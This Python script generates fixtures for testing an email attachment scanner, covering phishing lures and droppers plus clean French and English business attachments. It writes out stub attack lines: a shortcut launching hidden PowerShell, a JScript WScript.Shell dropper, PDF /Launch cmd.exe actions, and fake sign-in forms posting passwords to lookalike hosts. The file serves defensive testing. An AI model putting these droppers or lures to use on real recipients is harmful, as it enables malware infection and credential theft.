#!/usr/bin/python3
"""Writes the attachment cases of tests/data/threats/ (README.md there gives the format):
attacks as they reach small businesses (programs in nested archives, disk images,
macros old and new, OneNote, PDF actions, files whose name lies) and ordinary business
attachments that must stay clean. Run from this folder; the attachment bytes come from
tests/data/documents.py, the encrypted zip from the zip command (Debian package zip)."""
import base64, json, os, subprocess, sys, tempfile, zipfile, zlib
from email.header import Header
from email.utils import formatdate, formataddr, parseaddr

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, ".."))
import documents as D  # noqa: E402

# Genuine senders send from 192.0.2.20 (attachments.zone gives them SPF and DMARC).
GENUINE = ["--ip", "192.0.2.20"]
ATTACKER = ["--ip", "198.51.100.7"]
DATE = 1794990000  # 2026-11-18, a few hours before the runner's --now


def fr_iban(bban):
    digits = "".join(str(int(c, 36)) for c in bban + "FR00")
    return "FR%02d%s" % (98 - int(digits) % 97, bban)


IBAN = fr_iban("30004000031234567890143")
IBAN_GROUPED = " ".join(IBAN[i:i + 4] for i in range(0, len(IBAN), 4))


def message(name, sender, to, subject, body, attachments, mail_from=None, extra=""):
    """attachments: [(filename, content type, bytes)]"""
    n = sum(ord(c) for c in name)
    # RFC 2047 for whatever is not ASCII, as mail programs write it.
    display, address = parseaddr(sender)
    if not display.isascii():
        sender = formataddr((str(Header(display, "utf-8")), address))
    if not subject.isascii():
        subject = Header(subject, "utf-8").encode()
    lines = ["Return-Path: <%s>" % (mail_from or address),
             "From: %s" % sender, "To: %s" % to, "Subject: %s" % subject,
             "Date: %s" % formatdate(DATE + n, localtime=False),
             "Message-ID: <%s.%d@%s>" % (name, n, sender.split("@")[-1].rstrip(">")),
             "MIME-Version: 1.0"]
    if extra:
        lines.append(extra)
    lines.append('Content-Type: multipart/mixed; boundary="=_part_%d"' % n)
    out = "\r\n".join(lines) + "\r\n\r\n"
    out += "--=_part_%d\r\nContent-Type: text/plain; charset=utf-8\r\n" % n
    out += "Content-Transfer-Encoding: 8bit\r\n\r\n" + body.replace("\n", "\r\n") + "\r\n"
    for filename, ctype, data in attachments:
        b64 = base64.encodebytes(data).decode().replace("\n", "\r\n")
        out += ('--=_part_%d\r\nContent-Type: %s; name="%s"\r\n'
                'Content-Disposition: attachment; filename="%s"\r\n'
                "Content-Transfer-Encoding: base64\r\n\r\n%s") % (n, ctype, filename,
                                                                  filename, b64)
    out += "--=_part_%d--\r\n" % n
    with open(os.path.join(HERE, name + ".eml"), "w", encoding="utf-8", newline="") as f:
        f.write(out)


def case(name, description, verdict, findings=(), absent=(), args=ATTACKER, **msg):
    message(name, **msg)
    manifest = {"description": description, "verdict": verdict, "args": list(args),
                "zone": "attachments.zone"}
    if findings:
        manifest["findings"] = list(findings)
    if absent:
        manifest["absent"] = list(absent)
    with open(os.path.join(HERE, name + ".json"), "w", encoding="utf-8") as f:
        json.dump(manifest, f, ensure_ascii=False, indent=2)
        f.write("\n")


def encrypted_zip(members):
    with tempfile.TemporaryDirectory() as tmp:
        for n, data in members.items():
            with open(os.path.join(tmp, n), "wb") as f:
                f.write(data)
        subprocess.run(["zip", "-q", "-P", "2026", "out.zip", *members], cwd=tmp, check=True)
        with open(os.path.join(tmp, "out.zip"), "rb") as f:
            return f.read()


ZIP, PDF, OCTET = "application/zip", "application/pdf", "application/octet-stream"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DUPONT = "Maison Dupont <contact@maison-dupont.fr>"
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 56 + \
    "C:\\Windows\\System32\\cmd.exe /c powershell -w hidden".encode("utf-16-le")
SAFE = ["attachment-unreadable"]

# The attacks issue 12 names.
case("attach-zip-in-zip-exe-fr",
     "Issue 12: a zip inside a zip holding an .exe, as a parcel-delivery notice",
     "dangerous", ["attachment-archive-executable"], SAFE,
     sender="Colissimo <suivi@colis-livraison-info.com>", to=DUPONT,
     subject="Votre colis n°6A19283746501 est en attente",
     body="Bonjour,\n\nVotre colis n'a pas pu être livré : adresse incomplète.\n"
          "Le bordereau de réexpédition est joint (archive).\n\nService Clients",
     attachments=[("bordereau.zip", ZIP, D.zip_of({"documents/bordereau-6A19283746501.zip":
                                                   D.zip_of({"bordereau.exe": D.PE})}))])
case("attach-iso-in-zip-en",
     "Issue 12: an .iso inside a zip, the image holding a shortcut and a program (the "
     "Mark-of-the-Web bypass of 2022-23)", "dangerous",
     ["attachment-disk-image", "attachment-archive-executable"], SAFE,
     sender="Accounts Payable <ap@northwind-trading.example>", to=DUPONT,
     subject="Overdue invoice INV-88412 - second reminder",
     body="Hello,\n\nOur records show invoice INV-88412 is 45 days overdue.\n"
          "Please review the attached statement and arrange payment.\n\nRegards,\nJ. Parker",
     attachments=[("Statement_INV-88412.zip", ZIP, D.zip_of({"Statement_INV-88412.iso":
                   D.iso_of({"invoice.lnk": LNK, "data.dll": D.PE})}))])
case("attach-html-in-zip-fr",
     "Issue 12: an .html page inside a zip: a local fake Microsoft 365 sign-in form",
     "suspicious", ["attachment-html"], SAFE,
     sender="Partage de fichiers <noreply@docs-partage-securise.com>", to=DUPONT,
     subject="Document partagé : Bon de commande 2026-311",
     body="Un document vous a été partagé.\nOuvrez la pièce jointe pour le consulter "
          "(connexion avec votre compte professionnel requise).",
     attachments=[("Bon_de_commande_2026-311.zip", ZIP, D.zip_of({
         "Bon_de_commande_2026-311.html":
             "<html><body><h2>Microsoft 365</h2><form action='https://m365-login-verif.com"
             "/p.php' method=post>E-mail <input name=u> Mot de passe <input type=password "
             "name=p></form></body></html>"}))])
case("attach-docm-in-zip-en",
     "Issue 12: a macro-enabled .docm inside a zip, sent as a purchase order",
     "suspicious", ["attachment-macro"], SAFE,
     sender="Purchasing <orders@fairway-imports.example>", to=DUPONT,
     subject="New purchase order PO-20261118",
     body="Dear supplier,\n\nPlease find our new purchase order attached (zip).\n"
          "Enable editing to see the quantities.\n\nBest regards,\nPurchasing dept.",
     attachments=[("PO-20261118.zip", ZIP, D.zip_of({
         "PO-20261118.docm": D.docx(["Purchase order PO-20261118"], vba=True)}))])
case("attach-exe-gz-fr",
     "Issue 12: facture.exe.gz, a program under a single-file compressor",
     "dangerous", ["attachment-archive-executable"], SAFE,
     sender="Service facturation <facturation@energie-pro-services.com>", to=DUPONT,
     subject="Votre facture d'électricité de novembre",
     body="Madame, Monsieur,\n\nVotre facture de novembre est disponible en pièce jointe.\n"
          "Montant : 412,37 EUR, prélevé le 30/11/2026.\n\nService facturation",
     attachments=[("facture.exe.gz", "application/gzip", D.gz("facture.exe", D.PE))])
case("attach-doc-vba-fr",
     "Issue 12: a legacy .doc with a VBA project (OLE, read with libgsf)",
     "suspicious", ["attachment-macro"], SAFE,
     sender="Cabinet Morel Avocats <secretariat@morel-avocats-conseil.fr>", to=DUPONT,
     subject="Mise en demeure - dossier 2026/1187",
     body="Madame, Monsieur,\n\nVeuillez trouver ci-joint la mise en demeure concernant "
          "le dossier 2026/1187.\nSi le document s'affiche mal, cliquez sur « Activer le "
          "contenu ».\n\nLe secrétariat",
     attachments=[("mise-en-demeure-2026-1187.doc", "application/msword",
                   D.legacy_doc(vba=True))])
case("attach-onenote-en",
     "Issue 12: a OneNote .one notebook carrying an embedded program behind a button",
     "dangerous", ["attachment-onenote", "attachment-archive-executable"], SAFE,
     sender="HR Department <hr@benefits-portal-update.example>", to=DUPONT,
     subject="2027 benefits enrollment - action required",
     body="Hi,\n\nOpen the attached notebook and double-click \"View document\" to "
          "complete your 2027 benefits enrollment before Friday.\n\nHR",
     attachments=[("Benefits_2027.one", "application/onenote", D.onenote(D.PE))])
case("attach-pdf-openaction-js-fr",
     "Issue 12: a PDF whose /OpenAction runs JavaScript that opens a phishing page",
     "suspicious", ["attachment-pdf-javascript"], SAFE,
     sender="Centre des remboursements <avis@dossier-remboursement-en-ligne.com>", to=DUPONT,
     subject="Avis de remboursement d'impôt",
     body="Vous êtes éligible à un remboursement de 384,20 EUR.\nConsultez l'avis joint.",
     attachments=[("avis-remboursement.pdf", PDF, D.text_pdf(
         ["Avis de remboursement", "Montant : 384,20 EUR"],
         "/OpenAction << /S /JavaScript /JS (app.launchURL\\('https://dossier-remboursement-en"
         "-ligne.com/avis', true\\);) >> "))])

# More attacks.
case("attach-exe-as-pdf-en", "A Windows program named invoice.pdf and declared application/pdf",
     "dangerous", ["attachment-executable", "attachment-type-mismatch"], [],
     sender="Billing <billing@cloudhost-renewals.example>", to=DUPONT,
     subject="Invoice #55120 - payment failed",
     body="Your payment for invoice #55120 failed. See the attached invoice.",
     attachments=[("invoice_55120.pdf", PDF, D.PE)])
case("attach-html-as-pdf-fr",
     "A fake sign-in page named facture.pdf: the name lies, libmagic reads HTML",
     "suspicious", ["attachment-type-mismatch", "attachment-html"], [],
     sender="Comptabilité <compta@groupe-batir-ouest.com>", to=DUPONT,
     subject="Facture FAC-7781 en attente de validation",
     body="Bonjour,\nMerci de valider la facture jointe avant vendredi.\nCordialement",
     attachments=[("FAC-7781.pdf", PDF, b"<!DOCTYPE html><html><head><title>FAC-7781</title>"
                   b"</head><body><form action='https://valid-facture.com/l.php'>E-mail "
                   b"<input name=e><input type=password name=p></form></body></html>")])
case("attach-pdf-launch-en", "A PDF with a /Launch link that starts cmd.exe",
     "dangerous", ["attachment-pdf-launch"], SAFE,
     sender="Shipping <dispatch@global-freight-track.example>", to=DUPONT,
     subject="Shipment documents BL-22871",
     body="Please see the bill of lading attached and confirm receipt.",
     attachments=[("BL-22871.pdf", PDF, D.text_pdf(
         ["Bill of lading BL-22871", "Click anywhere to view the document"], "",
         "/Annots [6 0 R] ", ["<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S "
                              "/Launch /Win << /F (cmd.exe) /P (/c start invoice.exe) >> >> >>"]))])
case("attach-pdf-objstm-launch-en",
     "A PDF whose /OpenAction /Launch sits in a compressed object stream, out of sight of "
     "a byte scan", "dangerous", ["attachment-pdf-launch"], [],
     sender="Payroll <payroll@hr-document-center.example>", to=DUPONT,
     subject="Your November payslip",
     body="Your November payslip is attached.",
     attachments=[("Payslip_November.pdf", PDF, D.text_pdf(
         ["Payslip - November 2026"], "/OpenAction 7 0 R ", extra_objects=[
             D.object_stream({7: "<< /S /Launch /Win << /F (cmd.exe) /P (/c start "
                                 "payslip.exe) >> >>"})]))])
case("attach-pdf-embedded-exe-fr", "A PDF that carries a program in its /EmbeddedFiles",
     "dangerous", ["attachment-archive-executable"], [],
     sender="Huissier <etude@huissier-recouvrement-officiel.com>", to=DUPONT,
     subject="Signification d'acte - dossier 88-2026",
     body="Veuillez ouvrir l'acte joint et la pièce qu'il contient.",
     attachments=[("acte-88-2026.pdf", PDF, D.text_pdf(
         ["Signification d'acte", "Ouvrez la piece jointe du document"],
         "/Names << /EmbeddedFiles << /Names [(piece-jointe.exe) 6 0 R] >> >> ",
         extra_objects=["<< /Type /Filespec /F (piece-jointe.exe) /EF << /F 7 0 R >> >>",
                        b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(D.PE) + D.PE
                        + b"\nendstream"]))])
case("attach-pdf-embedded-poisoned-fr",
     "A PDF whose /EmbeddedFiles name tree starts with an entry that refers to a string "
     "(it crashed poppler's attachment list, hiding the program after it)",
     "dangerous", ["attachment-archive-executable"], [],
     sender="Huissier <etude@huissier-recouvrement-officiel.com>", to=DUPONT,
     subject="Signification d'acte - dossier 91-2026",
     body="Veuillez ouvrir l'acte joint et la pièce qu'il contient.",
     attachments=[("acte-91-2026.pdf", PDF, D.text_pdf(
         ["Signification d'acte", "Ouvrez la piece jointe du document"],
         "/Names << /EmbeddedFiles 6 0 R >> ",
         extra_objects=["<< /Kids [7 0 R 8 0 R] >>", "<< /Names [(acte.pdf) 9 0 R] >>",
                        "<< /Names [(piece-jointe.exe) 10 0 R] >>", "(acte.pdf)",
                        "<< /Type /Filespec /F (piece-jointe.exe) /EF << /F 11 0 R >> >>",
                        b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(D.PE) + D.PE
                        + b"\nendstream"]))])
case("attach-xls-vba-en", "A legacy .xls with a VBA project under _VBA_PROJECT_CUR",
     "suspicious", ["attachment-macro"], SAFE,
     sender="Finance <finance@meridian-partners.example>", to=DUPONT,
     subject="Q4 price list",
     body="Hi,\nAttached is the Q4 price list. Enable content to load the prices.\nThanks",
     attachments=[("Q4_prices.xls", "application/vnd.ms-excel", D.legacy_xls(vba=True))])
# Excel 4.0 (XLM) macro droppers (the Qakbot and ZLoader build): a macro sheet, hidden,
# started by Auto_Open.
case("attach-xls-xlm-auto-open-fr",
     "A legacy .xls with a very hidden Excel 4.0 macro sheet started by Auto_Open",
     "dangerous", ["attachment-xlm-macro"], [],
     sender="Comptabilité <compta@groupe-fournisseur-services.com>", to=DUPONT,
     subject="Relance facture impayée n° 2026-3391",
     body="Bonjour,\nSauf erreur de notre part, la facture jointe reste impayée.\n"
          "Merci d'activer la modification pour afficher le détail.\nService comptable",
     attachments=[("Facture-impayee-2026-3391.xls", "application/vnd.ms-excel",
                   D.legacy_xls(sheets=[("Feuil1", "worksheet", "visible"),
                                        ("Macro1", "macro", "veryHidden")], names=[1]))])
case("attach-xlsm-xlm-en",
     "An .xlsm whose hidden macro sheet (xl/macrosheets/) runs from _xlnm.Auto_Open",
     "dangerous", ["attachment-xlm-macro"], [],
     sender="Accounts <accounts@shipping-docs-center.example>", to=DUPONT,
     subject="Outstanding balance - statement attached",
     body="Hello,\nPlease review the attached statement and enable editing to see the "
          "figures.\nAccounts team",
     attachments=[("Statement_Nov.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12",
                   D.xlsx([("Statement", "worksheet", "visible"),
                           ("Macro1", "macro", "hidden")],
                          names={"_xlnm.Auto_Open": "Macro1!$A$1"}, strings=["Statement"],
                          macro_enabled=True))])
case("attach-xlsx-xlm-renamed-en",
     "The same macro sheet in a file named .xlsx, so that the name promises no macros",
     "dangerous", ["attachment-xlm-macro"], [],
     sender="Accounts <accounts@shipping-docs-center.example>", to=DUPONT,
     subject="Remittance advice", body="Remittance advice attached.",
     attachments=[("Remittance.xlsx", XLSX,
                   D.xlsx([("Remittance", "worksheet", "visible"),
                           ("Sheet2", "macro", "veryHidden")],
                          names={"Auto_Open": "Sheet2!$A$1"}, strings=["Remittance"]))])
case("attach-encrypted-doc-fr",
     "A password-protected Word document, the password in the message (Emotet's trick)",
     "suspicious", ["attachment-encrypted-document"], [],
     sender="Service RH <rh@cabinet-conseil-paie.fr>", to=DUPONT,
     subject="Bulletin de paie - novembre",
     body="Bonjour,\nVotre bulletin est protégé. Mot de passe : 2026\nService RH",
     attachments=[("bulletin-novembre.doc", "application/msword", D.legacy_doc(encrypted=True))])
case("attach-encrypted-zip-fr", "An encrypted zip whose password is in the message",
     "suspicious", ["attachment-encrypted-archive"], [],
     sender="Service client <client@livraison-express-suivi.com>", to=DUPONT,
     subject="Documents de livraison",
     body="Bonjour,\nLes documents sont dans l'archive jointe, mot de passe : 2026.\nMerci",
     attachments=[("documents.zip", ZIP, encrypted_zip({"documents.pdf": b"%PDF-1.4\n"}))])
case("attach-encrypted-zip-js-en",
     "An encrypted zip: the content is hidden, the names are not (a .pdf.js script)",
     "dangerous", ["attachment-encrypted-archive", "attachment-archive-executable",
                   "attachment-double-extension"], [],
     sender="Customer care <care@parcel-express-notify.example>", to=DUPONT,
     subject="Delivery documents",
     body="Hello,\nThe documents are in the attached archive, password: 2026.\nThanks",
     attachments=[("documents.zip", ZIP, encrypted_zip({"documents.pdf.js": b"WScript.Echo(1)"}))])
case("attach-tgz-scr-en", "A screensaver program (.scr) inside a tar.gz",
     "dangerous", ["attachment-archive-executable"], [],
     sender="Legal <legal@contract-review-services.example>", to=DUPONT,
     subject="Contract draft for review",
     body="Please review the contract draft in the attached archive.",
     attachments=[("contract.tar.gz", "application/gzip",
                   D.gz("contract.tar", D.tar_of({"contract/Contract_draft.scr": D.PE})))])
case("attach-lnk-in-zip-fr", "A Windows shortcut named like a PDF inside a zip",
     "dangerous", ["attachment-archive-executable", "attachment-double-extension"], [],
     sender="Banque Populaire <alerte@bp-securite-clients.com>", to=DUPONT,
     subject="Relevé de compte - anomalie détectée",
     body="Une anomalie a été détectée sur votre compte. Consultez le relevé joint.",
     attachments=[("releve.zip", ZIP, D.zip_of({"Releve_novembre.pdf.lnk": LNK}))])
case("attach-js-in-zip-en", "A JScript file inside a zip, the classic invoice dropper",
     "dangerous", ["attachment-archive-executable"], [],
     sender="Accounts <accounts@office-supply-direct.example>", to=DUPONT,
     subject="Invoice 20451 attached",
     body="Hello,\nPlease find invoice 20451 attached.\nKind regards",
     attachments=[("Invoice_20451.zip", ZIP, D.zip_of({"Invoice_20451.js":
                   "var s=new ActiveXObject('WScript.Shell');s.Run('powershell -enc AA');"}))])
nested = D.PE
for level in range(40):
    nested = D.zip_of({"setup.exe" if level == 0 else "part%d.zip" % level: nested})
case("attach-nested-zips-en", "Zips nested 40 deep around a program: the depth budget stops "
     "the walk and says so", "suspicious", ["attachment-archive-bomb"],
     ["attachment-archive-executable"],
     sender="Support <support@file-delivery-cloud.example>", to=DUPONT,
     subject="Your files are ready", body="Your files are attached.",
     attachments=[("files.zip", ZIP, nested)])
case("attach-zip-bomb-fr", "A zip of 64 MiB of zeros under a document's name (ratio 1,000)",
     "suspicious", ["attachment-archive-bomb"], [],
     sender="Archives <archives@stockage-documents-pro.com>", to=DUPONT,
     subject="Archives comptables 2025",
     body="Vos archives comptables 2025 sont jointes.",
     attachments=[("archives-2025.zip", ZIP, D.zip_of({"grand-livre-2025.pdf": b"\0" * (64 << 20)}))])
case("attach-iso-as-pdf-fr", "A disk image holding a program, named facture.pdf",
     "dangerous", ["attachment-disk-image", "attachment-archive-executable"], [],
     sender="Facturation <factures@telecom-pro-facture.com>", to=DUPONT,
     subject="Votre facture mobile",
     body="Votre facture mobile de novembre est jointe.",
     attachments=[("facture-novembre.pdf", PDF, D.iso_of({"facture.exe": D.PE}))])
case("attach-svg-en", "An SVG picture carrying a script that redirects to a phishing page",
     "suspicious", ["attachment-html"], [],
     sender="Voicemail <voicemail@phone-system-notify.example>", to=DUPONT,
     subject="New voicemail (0:42)",
     body="You have a new voicemail. Open the attachment to listen.",
     attachments=[("voicemail.svg", "image/svg+xml",
                   b"<svg xmlns='http://www.w3.org/2000/svg'><script>location="
                   b"'https://vm-listen.example/'</script></svg>")])
case("attach-img-en", "A raw disk image (.img), the other Mark-of-the-Web bypass",
     "suspicious", ["attachment-disk-image"], [],
     sender="Scanner <scanner@copier-services.example>", to=DUPONT,
     subject="Scanned document", body="Scanned document attached.",
     attachments=[("scan_0042.img", OCTET, b"\xeb\x3c\x90MSDOS5.0" + b"\0" * 500)])

# Business attachments that must stay clean.
INVOICE = ["CABINET GIRARD EXPERTISE COMPTABLE", "Facture n. 2026-114 du 17/11/2026",
           "Mission de tenue comptable - novembre 2026", "Total HT : 850,00 EUR",
           "TVA 20 % : 170,00 EUR", "Total TTC : 1 020,00 EUR",
           "Reglement par virement a 30 jours - IBAN " + IBAN_GROUPED]
GIRARD = "Cabinet Girard <facturation@cabinet-girard-expertise.fr>"
case("clean-invoice-pdf-fr", "An accountant's monthly invoice as a PDF, IBAN in the PDF",
     "clean", [], ["attachment-unreadable", "attachment-pdf-javascript",
                   "attachment-type-mismatch"], GENUINE,
     sender=GIRARD, to=DUPONT, subject="Facture 2026-114",
     body="Bonjour,\n\nVeuillez trouver ci-joint notre facture 2026-114 pour la mission de "
          "novembre.\n\nBien cordialement,\nCabinet Girard",
     attachments=[("Facture-2026-114.pdf", PDF, D.text_pdf(INVOICE))],
     mail_from="facturation@cabinet-girard-expertise.fr")
FACTURX = (b'<?xml version="1.0" encoding="UTF-8"?><rsm:CrossIndustryInvoice xmlns:rsm='
           b'"urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"/>')
case("clean-facturx-fr", "A Factur-X e-invoice: a PDF/A-3 carrying factur-x.xml",
     "clean", [], ["attachment-archive-executable", "attachment-unreadable"], GENUINE,
     sender=GIRARD, to=DUPONT, subject="Facture électronique 2026-115",
     body="Bonjour,\n\nVotre facture au format Factur-X est jointe.\n\nCabinet Girard",
     attachments=[("Facture-2026-115.pdf", PDF, D.text_pdf(
         INVOICE[:6], "/Names << /EmbeddedFiles << /Names [(factur-x.xml) 6 0 R] >> >> "
         "/AF [6 0 R] ", extra_objects=[
             "<< /Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) /AFRelationship /Data "
             "/EF << /F 7 0 R >> >>",
             b"<< /Type /EmbeddedFile /Subtype /text#2Fxml /Length %d >>\nstream\n"
             % len(FACTURX) + FACTURX + b"\nendstream"]))],
     mail_from="facturation@cabinet-girard-expertise.fr")
FACTURX_Z = zlib.compress(FACTURX)
case("clean-facturx-objstm-fr",
     "A Factur-X e-invoice as recent writers make it: name tree and file specification in "
     "a compressed object stream, the XML compressed",
     "clean", [], ["attachment-archive-executable"], GENUINE,
     sender=GIRARD, to=DUPONT, subject="Facture électronique 2026-116",
     body="Bonjour,\n\nVotre facture au format Factur-X est jointe.\n\nCabinet Girard",
     attachments=[("Facture-2026-116.pdf", PDF, D.text_pdf(
         INVOICE[:6], "/Names 20 0 R /AF [21 0 R] ", extra_objects=[
             D.object_stream({
                 20: "<< /EmbeddedFiles << /Names [(factur-x.xml) 21 0 R] >> >>",
                 21: "<< /Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) "
                     "/AFRelationship /Data /EF << /F 7 0 R >> >>"}),
             b"<< /Type /EmbeddedFile /Subtype /text#2Fxml /Filter /FlateDecode /Length %d >>"
             b"\nstream\n" % len(FACTURX_Z) + FACTURX_Z + b"\nendstream"]))],
     mail_from="facturation@cabinet-girard-expertise.fr")
case("clean-signed-pdf-en", "A contract signed electronically (a PDF signature field)",
     "clean", [], ["attachment-pdf-javascript", "attachment-unreadable"], GENUINE,
     sender="Northwind Legal <legal@northwind-supplies.co.uk>", to=DUPONT,
     subject="Signed framework agreement",
     body="Dear colleagues,\n\nPlease find the countersigned framework agreement attached.\n\n"
          "Kind regards,\nNorthwind Supplies Ltd",
     attachments=[("Framework_agreement_signed.pdf", PDF, D.text_pdf(
         ["Framework agreement", "Signed electronically by both parties"],
         "/AcroForm << /Fields [6 0 R] /SigFlags 3 >> ", extra_objects=[
             "<< /FT /Sig /T (Signature1) /V 7 0 R /Type /Annot /Subtype /Widget "
             "/Rect [0 0 0 0] /P 3 0 R >>",
             "<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached "
             "/ByteRange [0 100 200 300] /Contents <3082> >>"]))],
     mail_from="legal@northwind-supplies.co.uk")
case("clean-docx-fr", "A Word document without macros (a quote)",
     "clean", [], ["attachment-macro", "attachment-unreadable"], GENUINE,
     sender="Atelier Girard <devis@atelier-girard.fr>", to=DUPONT, subject="Devis D-2026-77",
     body="Bonjour,\n\nVoici notre devis pour la rénovation de la vitrine.\n\nCordialement,\n"
          "Atelier Girard",
     attachments=[("Devis-D-2026-77.docx", DOCX, D.docx(
         ["Devis D-2026-77", "Renovation de la vitrine", "Total TTC : 3 480,00 EUR"]))],
     mail_from="devis@atelier-girard.fr")
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x5a" * 4000
case("clean-photos-zip-fr", "A zip of site photos from a contractor",
     "clean", [], ["attachment-archive-executable", "attachment-archive-limit",
                   "attachment-type-mismatch"], GENUINE,
     sender="Atelier Girard <chantier@atelier-girard.fr>", to=DUPONT,
     subject="Photos du chantier", body="Bonjour,\n\nLes photos du chantier de mardi.\n\nBonne "
                                        "journée",
     attachments=[("photos-chantier.zip", ZIP, D.zip_of(
         {"IMG_%04d.jpg" % i: JPEG for i in range(2041, 2049)}, zipfile.ZIP_STORED))],
     mail_from="chantier@atelier-girard.fr")
case("clean-ics-en", "A meeting invitation (.ics)", "clean", [], ["attachment-html"], GENUINE,
     sender="Northwind Supplies <events@northwind-supplies.co.uk>", to=DUPONT,
     subject="Invitation: quarterly review", body="Please find the invitation attached.",
     attachments=[("invite.ics", "text/calendar; method=REQUEST",
                   b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Northwind//EN\r\nMETHOD:REQUEST\r\n"
                   b"BEGIN:VEVENT\r\nUID:q4-review@northwind-supplies.co.uk\r\n"
                   b"DTSTART:20261203T100000Z\r\nDTEND:20261203T110000Z\r\n"
                   b"SUMMARY:Quarterly review\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")],
     mail_from="events@northwind-supplies.co.uk")
case("clean-xlsx-en", "A price list spreadsheet (.xlsx)", "clean", [],
     ["attachment-macro", "attachment-type-mismatch"], GENUINE,
     sender="Northwind Sales <sales@northwind-supplies.co.uk>", to=DUPONT,
     subject="2027 price list", body="Hello,\n\nOur 2027 price list is attached.\n\nBest",
     attachments=[("Price_list_2027.xlsx", XLSX, D.zip_of({
         "[Content_Types].xml": D.CONTENT_TYPES,
         "xl/sharedStrings.xml": "<sst><si><t>Item</t></si><si><t>Price</t></si></sst>"}))],
     mail_from="sales@northwind-supplies.co.uk")
INVOICE_SHEETS = [("Facture", "worksheet", "visible"), ("Detail", "worksheet", "visible"),
                  ("Listes", "worksheet", "hidden")]
case("clean-invoice-xls-fr",
     "An invoice workbook saved as .xls: three sheets, the lists on a hidden sheet, a print "
     "area and a named VAT rate", "clean", [],
     ["attachment-macro", "attachment-xlm-macro", "attachment-type-mismatch"], GENUINE,
     sender=GIRARD, to=DUPONT, subject="Facture 2026-117 (tableur)",
     body="Bonjour,\n\nCi-joint la facture 2026-117 au format Excel.\n\nCabinet Girard",
     attachments=[("Facture-2026-117.xls", "application/vnd.ms-excel",
                   D.legacy_xls(sheets=INVOICE_SHEETS, names=[6, "TauxTVA"]))],
     mail_from="facturation@cabinet-girard-expertise.fr")
case("clean-invoice-xlsx-en",
     "An invoice workbook (.xlsx) with a hidden sheet of lists and defined names",
     "clean", [], ["attachment-macro", "attachment-xlm-macro", "attachment-type-mismatch"],
     GENUINE, sender="Northwind Sales <sales@northwind-supplies.co.uk>", to=DUPONT,
     subject="Invoice INV-2026-0412", body="Hello,\n\nPlease find invoice INV-2026-0412 "
                                          "attached.\n\nBest regards",
     attachments=[("INV-2026-0412.xlsx", XLSX,
                   D.xlsx(INVOICE_SHEETS, names={"_xlnm.Print_Area": "Facture!$A$1:$F$40",
                                                 "VATRate": "Listes!$B$2"},
                          strings=["Invoice INV-2026-0412", "Total"]))],
     mail_from="sales@northwind-supplies.co.uk")
case("clean-html-export-xls-fr",
     "An ERP sales export: an HTML table saved as .xls, as business software does",
     "clean", [], ["attachment-type-mismatch", "attachment-html"], GENUINE,
     sender="ERP Maison Dupont <erp@maison-dupont.fr>", to=DUPONT,
     subject="Export des ventes - novembre", body="Export automatique des ventes.",
     attachments=[("ventes-novembre.xls", "application/vnd.ms-excel",
                   b"<html><head><meta charset='utf-8'></head><body><table><tr><td>Client"
                   b"</td><td>Total</td></tr><tr><td>Martin</td><td>120,00</td></tr></table>"
                   b"</body></html>")],
     mail_from="erp@maison-dupont.fr")
case("clean-legacy-doc-fr", "An old .doc letter without macros", "clean", [],
     ["attachment-macro", "attachment-encrypted-document", "attachment-type-mismatch"],
     GENUINE, sender=GIRARD, to=DUPONT, subject="Courrier - lettre de mission",
     body="Bonjour,\n\nVous trouverez la lettre de mission jointe.\n\nCabinet Girard",
     attachments=[("lettre-de-mission.doc", "application/msword", D.legacy_doc())],
     mail_from="facturation@cabinet-girard-expertise.fr")
case("clean-odt-fr", "A letter written with LibreOffice (.odt)", "clean", [],
     ["attachment-macro", "attachment-unreadable"], GENUINE,
     sender="Atelier Girard <devis@atelier-girard.fr>", to=DUPONT,
     subject="Conditions générales", body="Bonjour,\n\nNos conditions générales jointes.",
     attachments=[("CGV-2027.odt", "application/vnd.oasis.opendocument.text",
                   D.odt(["Conditions generales de vente 2027", "Article 1 - Objet"]))],
     mail_from="devis@atelier-girard.fr")
